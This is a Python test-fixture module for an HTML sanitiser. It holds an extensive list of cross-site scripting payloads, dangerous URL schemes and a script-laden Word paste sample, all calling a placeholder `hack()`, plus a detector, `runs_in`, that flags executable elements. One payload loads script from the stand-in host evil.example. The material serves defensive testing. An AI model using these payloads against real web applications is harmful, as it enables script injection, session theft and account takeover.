"""What somebody types, pastes or names a file, who wants our pages to run their script.

Each of it calls `hack()`. `runs_in` finds those that a browser would run in a page.
"""

import re

from lxml import etree
from lxml.html import fromstring, tostring

MARKUP = [
    "<script>hack()</script>",
    "<SCRIPT SRC=//evil.example/hack()></SCRIPT>",
    "<scr<script>ipt>hack()</scr</script>ipt>",
    "<script/x>hack()</script>",
    "<script\n>hack()</script\n>",
    "</script><script>hack()</script>",
    "</title><script>hack()</script>",
    "</textarea><script>hack()</script>",
    "</style><script>hack()</script>",
    "</template><script>hack()</script>",
    "</noscript><script>hack()</script>",
    "--><script>hack()</script>",
    "<!--<script>--><script>hack()</script>",
    "]]><script>hack()</script>",
    "<![CDATA[<script>hack()</script>]]>",
    "<?xml version='1.0'?><script>hack()</script>",
    "'\"><script>hack()</script>",
    "\"'/><img src=x onerror=hack()>",
    "<img src=x onerror=hack()>",
    "<IMG SRC=x OnErRoR=hack()>",
    "<img/src='x'/onerror='hack()'>",
    "<img src=x onerror\n=\nhack()>",
    "<img src=`x` onerror=hack()>",
    "<<img src=x onerror=hack()>",
    "<img src=x:x onerror=&#104;ack()>",
    "<image src=x onerror=hack()>",
    "<svg onload=hack()>",
    "<svg><script>hack()</script></svg>",
    "<svg><a xlink:href='javascript:hack()'><text>x</text></a></svg>",
    "<svg><animate onbegin=hack() attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:hack()'>",
    "<svg><foreignObject><iframe srcdoc='<script>hack()</script>'></foreignObject></svg>",
    "<math><mtext><script>hack()</script></mtext></math>",
    "<math href='javascript:hack()'>x</math>",
    "<math><mi><table><mglyph><style><img src=x onerror=hack()>",
    "<iframe src='javascript:hack()'></iframe>",
    "<iframe srcdoc='<script>parent.hack()</script>'></iframe>",
    "<object data='javascript:hack()'></object>",
    "<embed src='javascript:hack()'>",
    "<embed embedtype='media' url='javascript:hack()'/>",
    "<embed embedtype='image' id='1' alt='\"><script>hack()</script>'/>",
    "<base href='javascript:hack()//'>",
    "<link rel=stylesheet href='javascript:hack()'>",
    "<meta http-equiv=refresh content='0;url=javascript:hack()'>",
    "<form action='javascript:hack()'><button>x</button></form>",
    "<button formaction='javascript:hack()'>x</button>",
    "<input autofocus onfocus=hack()>",
    "<select autofocus onfocus=hack()></select>",
    "<details open ontoggle=hack()>x</details>",
    "<video><source onerror=hack()></video>",
    "<audio src=x onerror=hack()></audio>",
    "<body onload=hack()>",
    "<marquee onstart=hack()>x</marquee>",
    "<div style='background:url(javascript:hack())'>x</div>",
    "<div onpointerover=hack()>x</div>",
    "<style>@import 'javascript:hack()';</style>",
    "<xss id=x tabindex=1 onfocus=hack()></xss>",
    "<a href='javascript:hack()'>x</a>",
    "<a href='JaVaScRiPt:hack()'>x</a>",
    "<a href='java\tscript:hack()'>x</a>",
    "<a href='&#106;avascript:hack()'>x</a>",
    "<a href=' javascript:hack()'>x</a>",
    "<a href='data:text/html,<script>hack()</script>'>x</a>",
    "<a href='vbscript:hack()'>x</a>",
    "<a linktype='page' id='1\" onclick=\"hack()'>x</a>",
    "<a linktype='external' href='javascript:hack()'>x</a>",
    "<office-start></office-start><script>hack()</script>",
    '<script type="application/json">{"kind": "hack()"}</script><office-start></office-start>',
    "&lt;script&gt;hack()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;hack()",
    "%3Cscript%3Ehack()%3C/script%3E",
    "\\u003cscript\\u003ehack()\\u003c/script\\u003e",
    "＜script＞hack()＜/script＞",
    "\u2028<script>hack()</script>\u2029",
    "\u202e<script>hack()</script>",
    "{{ hack() }}<script>hack()</script>",
    "{% load x %}{{ 7|safe }}<script>hack()</script>",
    "${hack()}<script>hack()</script>",
    "';hack();//",
    '";hack();//',
    "`;hack();//",
    "\\';hack();//",
    '{"@type": "x</script><script>hack()</script>"}',
]
"""Into fields of text, and as what was pasted into rich text."""

ADDRESSES = [
    "javascript:hack()",
    "JaVaScRiPt:hack()",
    "java\tscript:hack()",
    "java\nscript:hack()",
    " javascript:hack()",
    "\x01javascript:hack()",
    "javascript://www.example.org/%0ahack()",
    "javascript&colon;hack()",
    "data:text/html,<script>hack()</script>",
    "data:text/html;base64,PHNjcmlwdD5oYWNrKCk8L3NjcmlwdD4=",
    "vbscript:hack()",
    "view-source:javascript:hack()",
    "feed:javascript:hack()",
    "jar:javascript:hack()",
    "blob:javascript:hack()",
    "file:///hack()",
    "https://www.example.org/\"onmouseover='hack()'",
    "https://www.example.org/<script>hack()</script>",
]
"""Into fields of addresses, and as links of rich text."""

WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
<style>p.MsoNormal {mso-style-unhide:no; background:url(javascript:hack())}</style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<script>hack()</script></head><body lang=EN-GB style='tab-interval:36.0pt' onload="hack()">
<p class=MsoNormal style='margin-bottom:0cm;mso-outline-level:1'><b>Bold words</b><o:p></o:p></p>
<p class=MsoNormal><span style='font-family:"Comic Sans MS"'>Plain words
<a href="javascript:hack()" onclick="hack()">bad link</a>
<a href="https://www.example.org/page">good link</a></span></p>
<p class=MsoListParagraph><![if !supportLists]><span>·</span><![endif]>A point</p>
<img src=x onerror="hack()"><iframe srcdoc="<script>hack()</script>"></iframe>
<table onmouseover="hack()"><tr><td>In a cell</td></tr></table></body></html>"""
"""What Word and a web page hand over when words are copied out of them, with what may not stay."""

DATA = {"application/json", "application/ld+json"}
WITH_ADDRESS = {
    "action",
    "cite",
    "content",
    "data",
    "formaction",
    "href",
    "src",
    "to",
    "xlink:href",
}
SCHEME = re.compile(
    r"^(?:[\d; ]*url=)?[\x00-\x20]*(?:javascript:|data:text|vbscript:)", re.IGNORECASE
)


def runs_in(html: str) -> list[str]:
    """The pieces of a page that would run what is above."""
    found = []
    for element in fromstring(f"<div>{html}</div>").iter(etree.Element):
        is_data = element.tag == "script" and element.get("type") in DATA
        is_script = element.tag in {"script", "style"} and "hack()" in (element.text or "")
        attributes = [
            name
            for name, value in element.attrib.items()
            if (name.startswith("on") or name in {"srcdoc", "style"})
            and "hack()" in value
            or (name in WITH_ADDRESS and SCHEME.match(re.sub(r"[\t\r\n]", "", value)))
            or (element.tag == "script" and name == "src" and "evil" in value)
        ]
        if (is_script and not is_data) or attributes:
            found.append(tostring(element, encoding="unicode")[:160])
    return found
